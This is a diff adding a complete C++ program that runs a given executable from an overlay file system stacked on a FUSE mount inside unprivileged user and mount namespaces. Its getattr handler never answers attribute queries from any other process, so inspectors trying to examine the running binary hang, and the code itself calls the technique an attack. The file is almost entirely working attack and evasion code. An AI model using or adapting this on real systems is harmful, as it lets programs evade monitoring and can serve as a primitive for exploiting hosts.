@@ -1,0 +1,209 @@
+// SPDX-License-Identifier: MIT
+//
+// Runs a program from an overlay over a file system of the user's own. Nobody else can see either.
+//
+//   overlay-program PROGRAM [ARGUMENT]...
+//       becomes a copy of PROGRAM. A child of it serves the file system, in user and mount
+//       namespaces of its own. A question by any other process for the file's attributes gets no
+//       answer; "asked" is printed.
+#define FUSE_USE_VERSION 31
+#include <array>
+#include <cerrno>
+#include <csignal>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <fcntl.h>
+#include <fstream>
+#include <fuse_lowlevel.h>
+#include <iterator>
+#include <sched.h>
+#include <string>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <thread>
+#include <unistd.h>
+
+namespace {
+
+constexpr fuse_ino_t programInode = 2;
+constexpr double always = 1e9; // seconds
+
+std::string program;
+pid_t caller = 0;
+
+void check(bool isDone, const char *step)
+{
+    if (!isDone) {
+        std::fprintf(stderr, "overlay-program: %s: %s\n", step, std::strerror(errno));
+        _exit(2);
+    }
+}
+
+void writeTo(const char *path, const std::string &text)
+{
+    std::ofstream file(path);
+    check(bool(file << text << std::flush), path);
+}
+
+struct stat attributesOf(fuse_ino_t inode)
+{
+    struct stat status = {};
+    status.st_ino = inode;
+    status.st_nlink = 1;
+    status.st_mode = inode == programInode ? S_IFREG | 0755U : S_IFDIR | 0755U;
+    status.st_size = inode == programInode ? static_cast<off_t>(program.size()) : 0;
+    return status;
+}
+
+void lookUp(fuse_req_t request, fuse_ino_t /*directory*/, const char *name)
+{
+    if (std::string(name) != "program") {
+        fuse_reply_err(request, ENOENT);
+        return;
+    }
+    fuse_entry_param entry{};
+    entry.ino = programInode;
+    entry.attr = attributesOf(programInode);
+    entry.entry_timeout = always;
+    fuse_reply_entry(request, &entry);
+}
+
+void getAttributes(fuse_req_t request, fuse_ino_t inode, fuse_file_info * /*file*/)
+{
+    const pid_t asker = fuse_req_ctx(request)->pid;
+    if (inode == programInode && asker != caller && asker != getpid()) {
+        std::puts("asked");
+        std::fflush(stdout);
+        return; // without an answer
+    }
+    const struct stat status = attributesOf(inode);
+    fuse_reply_attr(request, &status, 0);
+}
+
+void openProgram(fuse_req_t request, fuse_ino_t /*inode*/, fuse_file_info *file)
+{
+    file->keep_cache = 1;
+    fuse_reply_open(request, file);
+}
+
+void readProgram(fuse_req_t request, fuse_ino_t /*inode*/, std::size_t size, off_t offset,
+                 fuse_file_info * /*file*/)
+{
+    const std::string part = program.substr(static_cast<std::size_t>(offset), size);
+    fuse_reply_buf(request, part.data(), part.size());
+}
+
+void serve(int device)
+{
+    fuse_lowlevel_ops operations{};
+    operations.lookup = lookUp;
+    operations.getattr = getAttributes;
+    operations.open = openProgram;
+    operations.read = readProgram;
+    std::string name = "overlay-program";
+    std::array<char *, 1> words{name.data()};
+    fuse_args arguments = FUSE_ARGS_INIT(1, words.data());
+    fuse_session *session = fuse_session_new(&arguments, &operations, sizeof operations, nullptr);
+    const std::string mounted = "/dev/fd/" + std::to_string(device);
+    check(session != nullptr && fuse_session_mount(session, mounted.c_str()) == 0, "session");
+    fuse_session_loop(session);
+    _exit(0);
+}
+
+void enterNamespaces()
+{
+    const std::string uid = std::to_string(getuid());
+    const std::string gid = std::to_string(getgid());
+    check(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0,
+          "this host lets no user make namespaces, which this attack needs");
+    writeTo("/proc/self/setgroups", "deny");
+    writeTo("/proc/self/uid_map", uid + ' ' + uid + " 1\n");
+    writeTo("/proc/self/gid_map", gid + ' ' + gid + " 1\n");
+}
+
+/// Mounts the two file systems, has a thread serve the lower one, and opens the program.
+int openFromOverlay()
+{
+    check(mount("tmpfs", "/mnt", "tmpfs", 0, nullptr) == 0, "mounting a tmpfs");
+    for (const char *directory : {"/mnt/fuse", "/mnt/empty", "/mnt/overlay"}) {
+        check(mkdir(directory, 0755) == 0, directory);
+    }
+    const int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
+    check(device >= 0, "/dev/fuse");
+    const std::string options = "rootmode=40000,default_permissions,fd=" + std::to_string(device) +
+                                ",user_id=" + std::to_string(getuid()) +
+                                ",group_id=" + std::to_string(getgid());
+    check(mount("fuse", "/mnt/fuse", "fuse", 0, options.c_str()) == 0, "mounting by FUSE");
+    std::thread(serve, device).detach();
+    check(mount("overlay", "/mnt/overlay", "overlay", 0,
+                "lowerdir=/mnt/fuse:/mnt/empty,userxattr") == 0,
+          "mounting an overlay");
+    const int file = open("/mnt/overlay/program", O_RDONLY | O_CLOEXEC);
+    check(file >= 0, "the program");
+    return file;
+}
+
+void sendDescriptor(int socket, int descriptor)
+{
+    char byte = 0;
+    iovec content{&byte, 1};
+    alignas(cmsghdr) std::array<char, CMSG_SPACE(sizeof descriptor)> space{};
+    msghdr message{};
+    message.msg_iov = &content;
+    message.msg_iovlen = 1;
+    message.msg_control = space.data();
+    message.msg_controllen = space.size();
+    cmsghdr *header = CMSG_FIRSTHDR(&message);
+    *header = {CMSG_LEN(sizeof descriptor), SOL_SOCKET, SCM_RIGHTS};
+    std::memcpy(CMSG_DATA(header), &descriptor, sizeof descriptor);
+    check(sendmsg(socket, &message, 0) == 1, "sending the program");
+}
+
+int receiveDescriptor(int socket)
+{
+    char byte = 0;
+    iovec content{&byte, 1};
+    int descriptor = -1;
+    alignas(cmsghdr) std::array<char, CMSG_SPACE(sizeof descriptor)> space{};
+    msghdr message{};
+    message.msg_iov = &content;
+    message.msg_iovlen = 1;
+    message.msg_control = space.data();
+    message.msg_controllen = space.size();
+    if (recvmsg(socket, &message, MSG_CMSG_CLOEXEC) != 1 || CMSG_FIRSTHDR(&message) == nullptr) {
+        _exit(2); // the child has said why
+    }
+    std::memcpy(&descriptor, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof descriptor);
+    return descriptor;
+}
+
+} // namespace
+
+int main(int argc, char **argv)
+{
+    if (argc < 2) {
+        std::fputs("usage: overlay-program PROGRAM [ARGUMENT]...\n", stderr);
+        return 2;
+    }
+    std::ifstream file(argv[1]);
+    check(file.is_open(), argv[1]);
+    program.assign(std::istreambuf_iterator<char>(file), {});
+    caller = getpid();
+    std::array<int, 2> sockets{};
+    check(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sockets.data()) == 0, "socketpair");
+    if (fork() == 0) {
+        close(sockets[0]);
+        prctl(PR_SET_PDEATHSIG, SIGKILL);
+        enterNamespaces();
+        sendDescriptor(sockets[1], openFromOverlay());
+        for (;;) {
+            pause();
+        }
+    }
+    close(sockets[1]);
+    fexecve(receiveDescriptor(sockets[0]), argv + 1, environ);
+    check(false, "running the program");
+}
